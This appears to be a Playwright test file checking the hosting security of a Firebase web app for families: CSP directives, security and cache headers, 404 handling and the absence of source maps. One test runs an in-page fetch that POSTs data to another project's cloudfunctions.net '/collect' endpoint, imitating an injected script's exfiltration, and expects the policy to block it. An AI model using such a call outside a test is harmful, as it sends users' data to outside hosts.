/**
 * The production build as Firebase Hosting serves it (tools/serveDist.ts applies the hosting
 * section the build wrote beside itself: firebase.json with the build's own origins in the CSP,
 * tools/hostingConfig.ts): every screen works with the Content-Security-Policy enforced, another
 * project's functions are out of reach, the caching and security headers are there, a missing
 * asset is a 404, and no source map is public.
 */
import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { expect, test, type Page } from '@playwright/test';
import { DEMO } from './support/emulators';
import { EMULATOR_ORIGINS, HOSTING_DIST, watchForProblems } from './support/hosting';
import { openAs } from './support/signIn';

interface HostingConfig {
  headers: Array<{ source: string; headers: Array<{ key: string; value: string }> }>;
}
const hosting = (JSON.parse(readFileSync('firebase.json', 'utf8')) as { hosting: HostingConfig }).hosting;
const CONFIGURED_CSP = hosting.headers.flatMap((rule) => rule.headers).find((header) => header.key === 'Content-Security-Policy')!.value;


/** A full page load of `path` (through the SPA rewrite), until its data has arrived. */
async function open(page: Page, path: string) {
  await page.goto(path);
  await expect(page).toHaveURL(path);
  await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
  // Skeletons stand in for data still loading from the emulators.
  await expect(page.locator('.animate-pulse')).toHaveCount(0);
}

test("the firebase.json policy allows only the app and Google's Auth and Firestore endpoints; each build adds its own functions", () => {
  const directives = new Map(CONFIGURED_CSP.split(';').map((d) => d.trim().split(/\s+/)).map(([name, ...values]) => [name!, values]));
  expect(directives.get('default-src')).toEqual(["'self'"]);
  expect(directives.get('script-src')).toEqual(["'self'"]);
  expect(directives.get('connect-src')).toEqual([
    "'self'",
    'https://identitytoolkit.googleapis.com',
    'https://securetoken.googleapis.com',
    'https://firestore.googleapis.com',
  ]);
  expect(directives.get('frame-ancestors')).toEqual(["'none'"]);
  expect(directives.get('object-src')).toEqual(["'none'"]);
  expect(directives.get('base-uri')).toEqual(["'self'"]);
  expect(CONFIGURED_CSP).not.toContain('127.0.0.1');
  expect(CONFIGURED_CSP).not.toContain('cloudfunctions');
});

test("a parent's screens load with the CSP enforced: no violation, no console error", async ({ page }) => {
  // Sign-in and five screens with their data, each from a full page load: as in a11y.spec.ts.
  test.setTimeout(60_000);
  const problems = await watchForProblems(page);
  await open(page, '/login');
  await openAs(page, DEMO.owing);
  for (const path of ['/', '/family', '/plans', '/transactions', '/book-deposits']) await open(page, path);
  // The SEPA QR code is a data: image, which img-src must allow.
  await page.goto('/');
  await expect.poll(() => page.getByTestId('sepa-qr').evaluate((img: HTMLImageElement) => img.complete && img.naturalWidth > 0)).toBe(true);
  expect(problems).toEqual([]);
});

test("the admin's screen loads with the CSP enforced: no violation, no console error", async ({ page }) => {
  test.setTimeout(60_000);
  const problems = await watchForProblems(page);
  await openAs(page, DEMO.admin);
  await open(page, '/admin');
  await expect(page.getByRole('region', { name: 'Latest Sync' }).getByText('Success')).toBeVisible({ timeout: 30_000 });
  expect(problems).toEqual([]);
});

test("the policy keeps a script in the page from reaching another project's functions", async ({ page }) => {
  const problems = await watchForProblems(page);
  await page.goto('/login');
  const elsewhere = 'https://europe-west1-another-project.cloudfunctions.net';
  // What an injected script would do with a parent's data; without the policy it would leave.
  const sent = await page.evaluate((url) => fetch(`${url}/collect`, { method: 'POST', body: 'data' }).then(() => true, () => false), elsewhere);
  expect(sent).toBe(false);
  await expect.poll(() => problems.some((problem) => problem.startsWith(`CSP: connect-src blocked ${elsewhere}/collect`))).toBe(true);
});

test('headers: the policy on every response, index.html revalidated, hashed assets immutable', async ({ request }) => {
  const index = readFileSync(join(HOSTING_DIST, 'index.html'), 'utf8');
  const script = index.match(/src="(\/assets\/[^"]+\.js)"/)?.[1];
  expect(script).toBeDefined();

  for (const path of ['/', '/index.html', '/family', script!, '/robots.txt']) {
    const response = await request.get(path);
    expect(response.status(), path).toBe(200);
    const headers = response.headers();
    // The only difference to firebase.json: the demo build's generated configuration lets it reach the emulators.
    expect(headers['content-security-policy'], path).toBe(CONFIGURED_CSP.replace(/(connect-src [^;]*)/, `$1 ${EMULATOR_ORIGINS}`));
    expect(headers['referrer-policy'], path).toBe('strict-origin-when-cross-origin');
    expect(headers['x-content-type-options'], path).toBe('nosniff');
    expect(headers['permissions-policy'], path).toMatch(/camera=\(\).*geolocation=\(\).*microphone=\(\).*payment=\(\)/);
  }
  for (const path of ['/', '/index.html', '/family']) {
    const response = await request.get(path);
    expect(response.headers()['cache-control'], path).toBe('no-cache');
    expect(await response.text(), path).toContain('<div id="root"></div>');
  }
  expect((await request.get(script!)).headers()['cache-control']).toBe('public, max-age=31536000, immutable');
});

test('a missing asset is a 404, not the app', async ({ request }) => {
  const response = await request.get('/assets/nope.js');
  expect(response.status()).toBe(404);
  expect(await response.text()).not.toContain('<div id="root">');
});

test('robots.txt is served', async ({ request }) => {
  const response = await request.get('/robots.txt');
  expect(response.status()).toBe(200);
  expect(response.headers()['content-type']).toContain('text/plain');
  expect(await response.text()).toMatch(/^User-agent: \*$/m);
});

test('no source maps: no .map file, no sourceMappingURL', () => {
  const files = readdirSync(HOSTING_DIST, { recursive: true, encoding: 'utf8' });
  expect(files.filter((file) => file.endsWith('.map'))).toEqual([]);
  const scripts = files.filter((file) => file.endsWith('.js'));
  expect(scripts.length).toBeGreaterThan(0);
  for (const file of scripts) expect(readFileSync(join(HOSTING_DIST, file), 'utf8'), file).not.toContain('sourceMappingURL');
});
